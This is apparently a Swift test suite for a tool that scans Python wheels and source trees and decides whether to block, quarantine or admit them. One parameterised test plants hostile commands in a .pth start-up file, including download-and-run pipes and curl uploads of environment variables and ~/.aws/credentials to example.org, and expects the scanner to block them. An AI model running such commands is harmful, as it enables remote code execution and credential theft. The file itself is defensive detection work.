import Evidence
import Intake
import Policy
import Synchronization
import TestSupport
import Testing

@Suite("The pipeline")
struct IntakeTests {
  private let directory = TemporaryDirectory()

  private func check(_ requests: [TargetRequest]) -> CheckReport {
    Intake.check(requests, policy: Policy(.balanced), options: .forTests, now: Timestamp(seconds: 0))
  }

  @Test("reports in the order in which targets were named, whatever is done first")
  func order() {
    let names = (0..<12).map { "demo\($0)" }
    let paths = names.map { WheelBuilder(name: $0, files: [("\($0).py", "x = 1\n")]).write(to: directory) }
    let report = check(paths.map(TargetRequest.path))
    #expect(report.artifacts.compactMap(\.evidence.project?.name) == names)
  }

  @Test(
    "blocks a start-up line whose command line downloads and runs or steals, and only that",
    arguments: [
      ("curl -s http://example.org/x | sh", Verdict.block, "PRQ102"),
      ("bash -c \"$(curl -s http://example.org/x)\"", .block, "PRQ102"),
      ("curl -s http://example.org/x -o /tmp/x; sh /tmp/x", .block, "PRQ102"),
      ("env | curl -d @- http://example.org/", .block, "PRQ101"),
      ("curl -T ~/.aws/credentials http://example.org/", .block, "PRQ101"),
      ("curl -fsS http://example.org/x -o data.json", .quarantine, "PRQ105"),
      ("git rev-parse HEAD | head -1", .quarantine, "PRQ106"),
    ])
  func commandLines(command: String, verdict: Verdict, rule: String) throws {
    let line = "import os; os.system('\(command)')\n"
    let wheel = WheelBuilder(name: "demo", files: [("demo.pth", line)]).write(to: directory)
    let artifact = try #require(check([.path(wheel)]).artifacts.first)
    #expect(artifact.decision.verdict == verdict)
    #expect(artifact.evidence.findings.contains { $0.rule == rule })
  }

  @Test("takes a folder of artifacts for what it holds, and a source tree for one target")
  func folders() {
    let inner = TemporaryDirectory()
    inner.write("a/\(WheelBuilder(name: "one").fileName)", WheelBuilder(name: "one").build())
    inner.write("b/\(WheelBuilder(name: "two").fileName)", WheelBuilder(name: "two").build())
    #expect(check([.path(inner.path)]).artifacts.compactMap(\.evidence.project?.name) == ["one", "two"])
    inner.write("pyproject.toml", "[project]\nname = 'tree'\nversion = '1'\n")
    #expect(check([.path(inner.path)]).artifacts.count == 1)
  }

  @Test("says how much was looked at, and how long it took where a clock is given")
  func measures() throws {
    let builder = WheelBuilder(
      name: "demo", files: [("demo/__init__.py", "x = 1\n"), ("demo/a.py", ""), ("n.txt", "-")])
    let wheel = builder.write(to: directory)
    var options = IntakeOptions.forTests
    let ticks = Ticks()
    options.clock = { .milliseconds(ticks.next()) }
    for options in [options, .forTests] {
      let report = Intake.check([.path(wheel)], policy: Policy(.balanced), options: options, now: Timestamp(seconds: 0))
      let measures = try #require(report.artifacts.first).evidence.measures
      #expect(measures.bytes == builder.build().count)
      #expect(measures.files == 6)
      #expect(measures.parsedSources == 2)
      #expect(measures.milliseconds == (options.clock == nil ? nil : 7))
    }
  }

  /// A clock that goes on by seven at each look.
  private final class Ticks: Sendable {
    private let count = Atomic<Int>(0)
    func next() -> Int { count.add(7, ordering: .relaxed).newValue }
  }

  @Test("counts the bytes of the files of a directory")
  func directoryMeasures() throws {
    let inner = TemporaryDirectory()
    inner.write("pyproject.toml", "[project]\n")
    inner.write("a.py", "x = 1\n")
    let measures = try #require(check([.path(inner.path)]).artifacts.first).evidence.measures
    #expect(measures.bytes == 16)
    #expect(measures.files == 2)
    #expect(measures.milliseconds == nil)
  }

  @Test("never admits what it could not open, and goes on with the others")
  func unopened() throws {
    let broken = directory.write("broken-1.0-py3-none-any.whl", Array("PK no archive".utf8))
    let good = WheelBuilder(name: "good", files: [("good.py", "x = 1\n")]).write(to: directory)
    let report = check([.path(broken), .path(good), .path(directory.path + "/missing.whl")])
    #expect(report.artifacts.map(\.decision.verdict) == [.quarantine, .admit, .quarantine])
    #expect(report.artifacts.map(\.evidence.isComplete) == [false, true, false])
    let error = try #require(report.artifacts[0].evidence.error)
    #expect(error.contains("broken-1.0-py3-none-any.whl"))
  }

  @Test("says of a word that is neither file nor requirement what it should be")
  func nonsense() throws {
    let report = check([.requirement("not a requirement!")])
    let error = try #require(report.artifacts.first?.evidence.error)
    #expect(error.contains("name==1.0"))
  }

  @Test("follows a requirements file to the files it names, and leaves nothing of it out")
  func requirementsFile() {
    let wheel = WheelBuilder(name: "local", files: [("local.py", "x = 1\n")]).write(to: directory)
    let list = directory.write(
      "requirements.txt", "\(wheel)\n-e git+https://example.org/x.git#egg=x\nabsent==1.0\n")
    let report = check([.requirementsFile(list)])
    #expect(report.artifacts.count == 3)
    #expect(report.artifacts.map { $0.evidence.error == nil } == [true, false, false])
  }

  @Test(
    "calls a wheel with a startup source that cannot be parsed incomplete, and one that Python refuses on import not")
  func completeness() throws {
    let startup = WheelBuilder(
      name: "start", files: [("start.pth", "import _start\n"), ("_start.py", "def broken(:\n  import os\n")])
    let imported = WheelBuilder(name: "old", files: [("old.py", "print 'Python 2'\n")])
    let report = check([.path(startup.write(to: directory)), .path(imported.write(to: directory))])
    #expect(report.artifacts.map(\.evidence.isComplete) == [false, true])
  }

  @Test("shows the source lines that findings speak of")
  func excerpts() throws {
    let wheel = WheelBuilder(name: "hook", files: [("hook.pth", "import hook_start\n"), ("hook_start.py", "x = 1\n")])
    let artifact = try #require(check([.path(wheel.write(to: directory))]).artifacts.first)
    #expect(artifact.evidence.excerpts.contains { $0.path == "hook.pth" && $0.text == "import hook_start" })
  }
}
